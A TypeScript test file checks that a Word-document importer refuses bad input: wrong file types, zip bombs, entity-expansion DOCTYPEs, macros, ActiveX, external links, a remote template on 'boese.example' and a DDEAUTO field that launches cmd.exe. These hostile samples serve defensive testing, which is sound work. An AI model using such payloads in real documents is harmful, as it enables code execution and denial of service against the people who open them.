import { AppError } from "@beschlussweg/core/error"
import { strToU8, zipSync } from "fflate"
import { describe, expect, test } from "vitest"
import { type DocxParts, docx, field, p, programmeDocx, run, XMLNS } from "./fixture.ts"
import { importWord } from "./import.ts"
import { LIMITS } from "./package.ts"

const OPTIONS = { fileName: "entwurf.docx", kind: "AMP", year: 2027 } as const
const good: DocxParts = { body: p("Kapitel", { style: "berschrift1" }) + p("Ein Satz.") }

/** the refusal of these bytes; a defect or an acceptance fails the test */
async function refusal(bytes: Uint8Array): Promise<AppError> {
  const error: unknown = await importWord(bytes, OPTIONS).then(
    () => new Error("wurde angenommen"),
    (e: unknown) => e,
  )
  if (!(error instanceof AppError)) throw error
  expect(error.message).toContain("entwurf.docx")
  expect(error.message).toMatch(/Bitte|bitte/)
  return error
}
const cfb = (...names: string[]) =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from("d0cf11e0a1b11ae1", "hex"),
      Buffer.alloc(512),
      ...names.map((n) => Buffer.from(n, "utf16le")),
    ]),
  )
const zipOf = (files: Record<string, string>) =>
  zipSync(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, strToU8(text)])))

describe("what is no Word file is named", () => {
  test.each([
    ["nothing", new Uint8Array(), "ist leer"],
    ["a PDF", strToU8("%PDF-1.7 ..."), "PDF-Datei"],
    ["RTF", strToU8("{\\rtf1 hallo}"), "RTF"],
    ["HTML", strToU8("<!DOCTYPE html><html>"), "HTML"],
    ["plain text", strToU8("Programm 2027"), "kein Word-Dokument"],
    ["an old .doc", cfb("WordDocument"), ".doc"],
    ["an old .xls", cfb("Workbook"), ".xls"],
    ["some archive", zipOf({ "liesmich.txt": "x" }), "Zip-Archiv"],
    [
      "OpenDocument",
      zipOf({ mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<x/>" }),
      "OpenDocument",
    ],
  ])("%s", async (_, bytes, words) => {
    const error = await refusal(bytes)
    expect(error.reason).toBe("word.not_word")
    expect(error.code).toBe("input")
    expect(error.message).toContain(words)
  })

  test("an Excel file and an encrypted one", async () => {
    const sheet = docx({
      ...good,
      mainType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    })
    expect((await refusal(sheet)).message).toContain("Excel")
    expect((await refusal(cfb("EncryptedPackage"))).reason).toBe("word.encrypted")
  })
})

describe("size", () => {
  test("200 MB are refused before anything is unpacked, with the limit named", async () => {
    const bytes = new Uint8Array(200 * 1024 * 1024)
    bytes.set(docx(good))
    const error = await refusal(bytes)
    expect(error).toMatchObject({ code: "limit", reason: "word.too_large" })
    expect(error.message).toContain("50 MB")
  })

  test("a bomb of text is refused by its declared size", async () => {
    const bytes = docx({ ...good, extra: { "word/header9.xml": new Uint8Array(LIMITS.xml + 1) } })
    expect(bytes.length).toBeLessThan(200_000)
    expect(await refusal(bytes)).toMatchObject({ code: "limit", reason: "word.bomb" })
  })

  test("a part that is packed beyond reason is refused", async () => {
    const bytes = docx({ ...good, extra: { "word/header9.xml": new Uint8Array(2 * 1024 * 1024) } })
    expect(await refusal(bytes)).toMatchObject({ code: "limit", reason: "word.bomb" })
  })

  test("a bomb that lies about its size is found while unpacking", async () => {
    const bytes = Buffer.from(docx({ ...good, extra: { "word/header9.xml": new Uint8Array(4 * 1024 * 1024) } }))
    const name = Buffer.from("word/header9.xml")
    const central = bytes.lastIndexOf(name) - 46
    bytes.writeUInt32LE(1000, central + 24)
    bytes.writeUInt32LE(1000, bytes.indexOf(name) - 30 + 22)
    expect((await refusal(new Uint8Array(bytes))).reason).toBe("word.broken")
  })

  test("too many entries are refused", async () => {
    const extra = Object.fromEntries(Array.from({ length: LIMITS.entries }, (_, i) => [`x/${i}.bin`, ""]))
    expect((await refusal(docx({ ...good, extra }))).reason).toBe("word.bomb")
  })

  test("an XML part with too many elements is refused", async () => {
    const body = "<w:p/>".repeat(LIMITS.elements)
    expect(await refusal(docx({ body: `${good.body}${body}`, extra: { "x.bin": "" } }))).toMatchObject({
      code: "limit",
      reason: "word.bomb",
    })
  })

  test("an XML tree that is too deep is refused", async () => {
    const deep = `${"<w:sdt><w:sdtContent>".repeat(400)}${p("tief")}${"</w:sdtContent></w:sdt>".repeat(400)}`
    expect(await refusal(docx({ body: deep }))).toMatchObject({ code: "limit", reason: "word.bomb" })
  })
})

describe("damage", () => {
  test("a cut file, a flipped byte and broken XML", async () => {
    const bytes = programmeDocx()
    expect((await refusal(bytes.slice(0, bytes.length - 200))).reason).toBe("word.broken")
    const flipped = bytes.slice()
    const at = Math.floor(bytes.length / 2)
    flipped[at] = (flipped[at] ?? 0) ^ 0x10
    expect(["word.broken", "word.broken_xml"]).toContain((await refusal(flipped)).reason)
    expect((await refusal(docx({ body: "<w:p><w:r></w:p>" }))).reason).toBe("word.broken_xml")
    expect((await refusal(docx({ body: p("<w:r><w:t>&nbsp;</w:t></w:r>") }))).reason).toBe("word.broken_xml")
  })

  test("a document type definition with entities", async () => {
    const bomb = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:hdr ${XMLNS}>${p("x")}</w:hdr>`
    const bytes = docx({ ...good, headers: [p("k")], extra: { "word/header1.xml": bomb } })
    expect((await refusal(bytes)).reason).toBe("word.doctype")
  })

  test("a document without any text", async () => {
    expect((await refusal(docx({ body: p("") }))).reason).toBe("word.empty")
  })

  test("every single flipped byte of a small file is refused or read, never a defect", async () => {
    const bytes = docx(good)
    const outcomes = new Set<string>()
    for (let i = 0; i < bytes.length; i += 7) {
      const copy = bytes.slice()
      copy[i] = (copy[i] ?? 0) ^ 0xff
      const outcome = await importWord(copy, OPTIONS).then(
        () => "read",
        (e: unknown) => (e instanceof AppError ? e.code : String(e)),
      )
      outcomes.add(outcome)
    }
    expect([...outcomes].filter((o) => !["read", "input", "limit"].includes(o))).toEqual([])
    expect(outcomes).toContain("input")
  })
})

describe("what is active or comes from outside", () => {
  test("macros, by part or by type, whatever the file is called", async () => {
    expect((await refusal(docx({ ...good, extra: { "word/vbaProject.bin": "x" } }))).reason).toBe("word.macros")
    const type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    expect((await refusal(docx({ ...good, mainType: type }))).reason).toBe("word.macros")
  })

  test("ActiveX controls", async () => {
    expect((await refusal(docx({ ...good, extra: { "word/activeX/activeX1.bin": "x" } }))).reason).toBe(
      "word.active_content",
    )
  })

  test("linked objects, sub-documents and embedded foreign documents", async () => {
    for (const relation of [
      ["r9", "oleObject", "file:///C:/werte.xlsx", true],
      ["r9", "subDocument", "kapitel2.docx", true],
      ["r9", "aFChunk", "chunk.html", false],
    ] as const)
      expect((await refusal(docx({ ...good, relations: [relation] }))).reason).toBe("word.external")
  })

  test("a template from the web is refused, one on a computer is only reported", async () => {
    const settings = (target: string) =>
      docx({
        ...good,
        extra: {
          "word/settings.xml": `<w:settings ${XMLNS}/>`,
          "word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="x/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
        },
      })
    expect((await refusal(settings("https://boese.example/x.dotm"))).reason).toBe("word.external")
    expect((await refusal(settings("\\\\boese\\x.dotm"))).reason).toBe("word.external")
    const { report } = await importWord(settings("file:///C:/Vorlagen/Amt.dotx"), OPTIONS)
    expect(report.findings.map((f) => f.reason)).toEqual(["word.template"])
  })

  test("DDE fields are refused, fields from other files keep their last result", async () => {
    const dde = field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', run("Klick"))
    expect((await refusal(docx({ body: `${good.body}${p(dde)}` }))).reason).toBe("word.dde")
    const simple = `<w:p><w:fldSimple w:instr="DDE Excel x"/></w:p>`
    expect((await refusal(docx({ body: `${good.body}${simple}` }))).reason).toBe("word.dde")
    const { report } = await importWord(
      docx({ body: `${good.body}${p(field("INCLUDETEXT a.docx", run("Alt.")))}` }),
      OPTIONS,
    )
    expect(report.findings.map((f) => f.reason)).toEqual(["field.external"])
  })
})
